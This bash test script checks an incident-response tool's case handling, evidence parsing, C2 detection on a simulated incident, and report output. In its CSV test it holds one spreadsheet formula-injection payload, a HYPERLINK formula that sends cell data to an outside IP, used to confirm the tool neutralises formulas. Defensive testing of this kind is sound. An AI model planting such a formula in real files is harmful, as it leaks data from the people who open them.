#!/usr/bin/env bash
# End-to-end checks of `ashiato investigate` and `ashiato case` on real corpora: an EVTX folder and
# RITA's Zeek logs in one run; resuming after kill -9; re-running adds nothing twice; bad evidence
# is listed with its reason; the demo case's ground truth is found exactly.
set -u
bin=$1
corpora=$2
artefacts=${3:-}  # where the demo report's screenshot is kept (optional)
failures=0
fail() { echo "FAIL: $*"; failures=$((failures + 1)); }
[ -d "$corpora/network/rita" ] || { echo "FAIL: corpora missing at $corpora"; exit 1; }
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
py=/usr/bin/python3
rita="$corpora/network/rita/test_data/missing_host/2024-04-19"
evtx="$corpora/evtx/deepbluecli"
echo 64.225.56.201 >"$tmp/c2.txt"

# One run over EVTX and Zeek logs: every file is a source; C2 findings equal what sweep finds.
"$bin" investigate -q --lang en --ioc "$tmp/c2.txt" --case "$tmp/case" "$rita" "$evtx" || fail "investigate exit $?"
want=$("$bin" sweep -q --ioc "$tmp/c2.txt" -f csv --no-summary "$rita" | tail -n +2 | wc -l)
"$bin" case show --case "$tmp/case" -f json >"$tmp/show.json" || fail "case show"
$py - "$tmp/show.json" "$want" "$(find "$rita" "$evtx" -type f | wc -l)" <<'PY' || fail "case show numbers"
import json, sys
rows = {r["item"]: r["value"] for r in json.load(open(sys.argv[1]))}
assert int(rows["c2_findings"]) == int(sys.argv[2]), (rows["c2_findings"], sys.argv[2])
assert int(rows["sources"]) == int(sys.argv[3]), (rows["sources"], sys.argv[3])
assert int(rows["sigma_findings"]) > 0, rows
assert int(rows["runs"]) == 1, rows
PY
[ -s "$tmp/case/report.json" ] || fail "no report.json"
$py -c 'import json,sys; d=json.load(open(sys.argv[1])); assert d["schema"]=="ashiato-report/1" and d["summary"]["c2_destinations"]==1, d["summary"]' \
  "$tmp/case/report.json" || fail "report.json summary"

# Running again reads nothing new and duplicates nothing.
before=$("$bin" case findings --case "$tmp/case" -f csv | wc -l)
"$bin" investigate -q --ioc "$tmp/c2.txt" --case "$tmp/case" "$rita" "$evtx" || fail "second run"
after=$("$bin" case findings --case "$tmp/case" -f csv | wc -l)
[ "$before" = "$after" ] || fail "re-run changed the findings: $before -> $after"

# kill -9 in the middle, then run again: the case is consistent and ends like an uninterrupted run.
big="$corpora/network/rita/test_data/missing_host"
"$bin" investigate -q -j 1 --ioc "$tmp/c2.txt" --case "$tmp/killed" "$big" &
pid=$!
sleep 0.7
kill -9 "$pid" 2>/dev/null
wait "$pid" 2>/dev/null
$py - "$tmp/killed/case.sqlite" <<'PY' || fail "case after kill -9 is not consistent"
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
assert db.execute("pragma integrity_check").fetchone()[0] == "ok"
# every finding belongs to a stored source
assert db.execute("select count(*) from findings f left join sources s on f.source_id = s.id where f.source_id is not null and s.id is null").fetchone()[0] == 0
PY
"$bin" investigate -q --ioc "$tmp/c2.txt" --case "$tmp/killed" "$big" || fail "resume exit $?"
"$bin" investigate -q --ioc "$tmp/c2.txt" --case "$tmp/whole" "$big" || fail "uninterrupted run"
for view in sources findings; do
  a=$("$bin" case $view --case "$tmp/killed" -f csv | wc -l)
  b=$("$bin" case $view --case "$tmp/whole" -f csv | wc -l)
  [ "$a" = "$b" ] || fail "resumed case has $a $view rows, uninterrupted $b"
done

# Bad evidence is listed with its reason and does not stop the run.
mkdir -p "$tmp/bad"
printf 'not a log at all\njust prose\n' >"$tmp/bad/notes.txt"
head -c 5000 "$corpora/evtx/omerbenamram/samples/security.evtx" >"$tmp/bad/cut.evtx"
printf '\x1f\x8b\x08\x00garbage' >"$tmp/bad/broken.log.gz"
"$bin" investigate -q --ioc "$tmp/c2.txt" --case "$tmp/badcase" "$tmp/bad" "$evtx" || fail "bad evidence made the run fail"
"$bin" case sources --case "$tmp/badcase" -f json | $py -c '
import json, sys
rows = {r["path"].rsplit("/", 1)[-1]: r for r in json.load(sys.stdin)}
assert "unknown log format" in rows["notes.txt"]["errors"], rows["notes.txt"]
assert rows["broken.log.gz"]["errors"], rows["broken.log.gz"]
assert int(rows["cut.evtx"]["problems"]) > 0, rows["cut.evtx"]
' || fail "bad evidence not listed with reasons"

# --notice: indicators and window from a Japanese notification text (its JST read as +09:00 while
# the report is in UTC), own address kept apart, the sender's own address ignored.
cat >"$tmp/notice.txt" <<'TXT'
貴組織のIPアドレス 203.0.113.7 から、下記の C2 サーバへの通信を確認しました。
  通信先: hxxp://64.225.56[.]201/index.php
  期間: 2024年4月19日 10時00分 ～ 2024年4月21日 18時00分 (JST)
連絡先: JPCERT/CC <info@jpcert.or.jp>
TXT
"$bin" investigate --tz UTC --notice "$tmp/notice.txt" --case "$tmp/noticecase" "$rita" 2>"$tmp/notice.err" >/dev/null ||
  fail "investigate --notice"
grep -q "own address 203.0.113.7" "$tmp/notice.err" || fail "notice: own address not recognised: $(head -3 "$tmp/notice.err")"
grep -q "window 2024-04-19T01:00:00Z .. 2024-04-21T09:00:00Z" "$tmp/notice.err" || fail "notice window: $(head -3 "$tmp/notice.err")"
"$bin" case show --case "$tmp/noticecase" -f json | $py -c '
import json, sys
rows = {r["item"]: r["value"] for r in json.load(sys.stdin)}
assert int(rows["indicators"]) == 1 and int(rows["c2_findings"]) > 0, rows' || fail "notice indicators"

# The demo incident: investigate finds exactly the planted ground truth.
"$bin" simulate --out "$tmp/demo" >/dev/null || fail "simulate"
d="$tmp/demo"
"$bin" investigate -q --lang en --notice "$d/notice.txt" --case "$d/case" "$d/proxy" "$d/firewall" "$d/dhcp" "$d/evtx" ||
  fail "investigate on the demo"
"$bin" case hosts --case "$d/case" -f json >"$tmp/hosts.json" || fail "case hosts"
$py - "$d/ground-truth.json" "$tmp/hosts.json" "$d/case/report.json" <<'PY' || fail "demo: investigate differs from the ground truth"
import json, sys
from datetime import datetime
truth = json.load(open(sys.argv[1]))
hosts = {h["host"]: h for h in json.load(open(sys.argv[2]))}
report = json.load(open(sys.argv[3]))
def status(s): return {n for n, h in hosts.items() if h["status"] == s}
infected = {h["hostname"] for h in truth["infected_hosts"]}
suspect = {h["hostname"] for h in truth["suspect_hosts"]}
assert status("infected") == infected, (status("infected"), infected)
assert status("suspect") == suspect, (status("suspect"), suspect)
for h in truth["infected_hosts"]:
    got = hosts[h["hostname"]]
    # every proxy request plus the direct attempts the firewall blocked
    want = h["c2_requests"] + h.get("firewall_blocked_direct_attempts", 0)
    assert int(got["c2_hits"]) == want, (h["hostname"], got["c2_hits"], want)
    assert h["user"].split("\\")[-1] in got["users"].split(), (h["hostname"], got["users"], h["user"])
    ips = {i["ip"] for i in h["ips"]}
    assert set(got["addresses"].split()) == ips, (h["hostname"], got["addresses"], ips)
    t = lambda s: datetime.fromisoformat(s.replace("Z", "+00:00")).timestamp()
    assert t(got["first_c2"]) <= t(h["first_c2_contact"]) + 1 and t(got["last_c2"]) >= t(h["last_c2_contact"]) - 1, (got, h)
da = truth["domain_admin"]
assert set(da["hosts_logged_on_by_attacker"]) <= status("involved"), (da, status("involved"))
accounts = {a["name"]: a for a in report["accounts"]}
assert accounts[da["account"]]["admin"], accounts[da["account"]]
assert report["summary"]["admin_accounts_on_infected"] >= 1
assert report["summary"]["infected_hosts"] == len(infected) and report["summary"]["suspect_hosts"] == len(suspect)
titles = {(e["host"], e["title"]) for e in report["timeline"]}
task = truth["task_registration"]["host"]
assert any(h == task and "at" in t.lower() and "task" in t.lower() for h, t in titles), sorted(titles)[:20]
c2 = {c["indicator"] for c in report["c2"]}
assert truth["c2"]["domain"] in c2 and truth["c2"]["ip"] in c2, c2
PY

# The demo's second C2, which the notice does not name (ground-truth.json "similar_c2"): the only
# candidate of similar communication (its address may be listed as well), with exactly the PCs
# that called it, which are "similar" hosts and no others; neither the groupware's 60-second poll
# ("benign_pollers") nor any well-known service is a candidate.
"$bin" case candidates --case "$d/case" -f json >"$tmp/candidates.json" || fail "case candidates"
"$bin" case hosts --case "$d/case" -f json >"$tmp/similar-hosts.json" || fail "case hosts (similar)"
$py - "$d/ground-truth.json" "$tmp/candidates.json" "$tmp/similar-hosts.json" "$d/case/report.json" <<'PY' || fail "demo: candidates differ from similar_c2"
import json, sys
truth = json.load(open(sys.argv[1]))
candidates = json.load(open(sys.argv[2]))
hosts = {h["host"]: h for h in json.load(open(sys.argv[3]))}
report = json.load(open(sys.argv[4]))
similar = truth["similar_c2"]
want = {h["hostname"] for h in similar["hosts"]}
assert want, similar
pollers = {p["domain"] for p in truth["benign_pollers"]}
def check_destinations(rows, where):
    assert isinstance(rows, list), (where, rows)
    got = {c["destination"] for c in rows}
    # the second C2 by name; the same C2 by address may be listed too; nothing else
    assert got - {similar["ip"]} == {similar["domain"]}, (where, got, similar["domain"], similar["ip"])
    assert not got & pollers, (where, got & pollers)
check_destinations(candidates, "case candidates")
for c in candidates:
    assert set(c["hosts"].split()) == want, ("case candidates", c["destination"], c["hosts"], want)
    float(c["score"])
    assert c["decision"] in ("", "accepted", "rejected"), c
status = {n for n, h in hosts.items() if h["status"] == "similar"}
assert status == want, ("similar hosts", status, want)
named = {h["hostname"] for h in truth["infected_hosts"] + truth["suspect_hosts"]}
assert not want & named, (want, named)
check_destinations(report["candidates"], "report.json")
for c in report["candidates"]:
    assert isinstance(c["hosts"], list) and set(c["hosts"]) == want, ("report.json", c["destination"], c["hosts"], want)
    assert isinstance(c["reason"], str) and c["reason"].strip(), ("report.json", c)
PY

# The responder's decision on the candidate, on a copy of the case: accepted, it is a C2 of the
# case (its PC infected with its contacts, in the report's C2 list and the block list); rejected,
# its PC is no longer suspected and the block list drops it. No evidence is read again.
cp -r "$d/case" "$tmp/decided"
second=$($py -c 'import json, sys; print(json.load(open(sys.argv[1]))["similar_c2"]["domain"])' "$d/ground-truth.json")
"$bin" case accept "$second" --case "$tmp/decided" --by tester --why "same implant" >/dev/null || fail "case accept"
"$bin" investigate -q --lang en --notice "$d/notice.txt" --case "$tmp/decided" "$d/proxy" "$d/firewall" "$d/dhcp" "$d/evtx" ||
  fail "investigate after accept"
"$bin" case hosts --case "$tmp/decided" -f json >"$tmp/accepted-hosts.json" || fail "case hosts (accepted)"
"$bin" blocklist --case "$tmp/decided" -f hosts -o "$tmp/accepted.hosts" 2>/dev/null || fail "blocklist (accepted)"
$py - "$d/ground-truth.json" "$tmp/accepted-hosts.json" "$tmp/decided/report.json" "$tmp/accepted.hosts" <<'PY' || fail "accepted candidate"
import json, sys
truth = json.load(open(sys.argv[1]))
hosts = {h["host"]: h for h in json.load(open(sys.argv[2]))}
report = json.load(open(sys.argv[3]))
blocked = open(sys.argv[4]).read().split()
similar = truth["similar_c2"]
for h in similar["hosts"]:
    got = hosts[h["hostname"]]
    assert got["status"] == "infected", got
    assert int(got["c2_hits"]) == h["requests"], (got["c2_hits"], h["requests"])
assert similar["domain"] in {c["indicator"] for c in report["c2"]}, report["c2"]
assert [c["decision"] for c in report["candidates"] if c["destination"] == similar["domain"]] == ["accepted"]
assert similar["domain"] in blocked, blocked
PY
"$bin" case reject "$second" --case "$tmp/decided" --by tester --why "test" >/dev/null || fail "case reject"
"$bin" investigate -q --lang en --notice "$d/notice.txt" --case "$tmp/decided" "$d/proxy" "$d/firewall" "$d/dhcp" "$d/evtx" ||
  fail "investigate after reject"
"$bin" case hosts --case "$tmp/decided" -f json >"$tmp/rejected-hosts.json" || fail "case hosts (rejected)"
"$bin" blocklist --case "$tmp/decided" -f hosts -o "$tmp/rejected.hosts" 2>/dev/null || fail "blocklist (rejected)"
"$bin" case candidates --case "$tmp/decided" -f json >"$tmp/rejected-candidates.json" || fail "case candidates (rejected)"
$py - "$d/ground-truth.json" "$tmp/rejected-hosts.json" "$tmp/rejected.hosts" "$tmp/rejected-candidates.json" <<'PY' || fail "rejected candidate"
import json, sys
truth = json.load(open(sys.argv[1]))
hosts = {h["host"]: h for h in json.load(open(sys.argv[2]))}
blocked = open(sys.argv[3]).read().split()
candidates = {c["destination"]: c for c in json.load(open(sys.argv[4]))}
similar = truth["similar_c2"]
for h in similar["hosts"]:
    assert h["hostname"] not in hosts or hosts[h["hostname"]]["status"] not in ("infected", "suspect", "similar"), hosts.get(h["hostname"])
assert similar["domain"] not in blocked, blocked
c = candidates[similar["domain"]]
assert (c["decision"], c["decided_by"], c["decision_reason"]) == ("rejected", "tester", "test"), c
PY
# A decision's reason is typed by a person and listed in CSV: a formula in it is written inert
# (leading '), unless --csv-raw.
formula='=HYPERLINK("http://198.51.100.9/?"&A1,"x")'
"$bin" case reject "$second" --case "$tmp/decided" --by tester --why "$formula" >/dev/null || fail "case reject (formula)"
"$bin" case candidates --case "$tmp/decided" -f csv >"$tmp/candidates.csv" || fail "case candidates -f csv"
grep -qF "\"'=HYPERLINK(\"\"http://198.51.100.9/?\"\"&A1,\"\"x\"\")\"" "$tmp/candidates.csv" ||
  fail "case candidates -f csv: formula not neutralised: $(grep -F HYPERLINK "$tmp/candidates.csv")"
"$bin" case candidates --case "$tmp/decided" -f csv --csv-raw >"$tmp/candidates-raw.csv" || fail "case candidates --csv-raw"
grep -qF "\"=HYPERLINK(\"\"http://198.51.100.9/?\"\"&A1,\"\"x\"\")\"" "$tmp/candidates-raw.csv" ||
  fail "case candidates --csv-raw: $(grep -F HYPERLINK "$tmp/candidates-raw.csv")"

# The demo's report.html in headless Chromium: loads without errors or requests, its numbers equal
# the case store's (counted here with SQL on case.sqlite), the graph renders; screenshot kept.
$py - "$d/case/case.sqlite" >"$tmp/case-summary.json" <<'PY' || fail "case summary from SQL"
import json, sqlite3, sys
db = sqlite3.connect(sys.argv[1])
count = lambda sql: db.execute(sql).fetchone()[0]
levels = {l: count(f"select count(*) from findings where kind != 'ioc' and level = '{l}'")
          for l in ("critical", "high", "medium", "low", "informational")}
print(json.dumps({"summary": {
    "infected_hosts": count("select count(*) from hosts where status = 'infected'"),
    "suspect_hosts": count("select count(*) from hosts where status = 'suspect'"),
    "similar_hosts": count("select count(*) from hosts where status = 'similar'"),
    "candidates": count("select count(*) from candidates c left join candidate_decisions d using(destination) "
                        "where coalesce(d.decision, '') != 'rejected'"),
    "c2_destinations": count("select count(distinct rule_id) from findings where kind = 'ioc'"),
    "sources": count("select count(*) from sources"),
    "detections": levels}}))
PY
web="$(dirname "$0")/../../web"
if node "$(dirname "$0")/report_test.mjs" "$d/case/report.html" "$d/case/report.json" "$tmp/case-summary.json" >"$tmp/browser.log" 2>&1; then
  if [ -n "$artefacts" ]; then mkdir -p "$artefacts" && cp "$d/case/report.png" "$d/case/report.html" "$artefacts/" 2>/dev/null; fi
else
  fail "demo report in Chromium: $(tail -5 "$tmp/browser.log")"
fi

if [ "$failures" -gt 0 ]; then
  echo "$failures investigate check(s) failed"
  exit 1
fi
echo "all investigate checks passed"
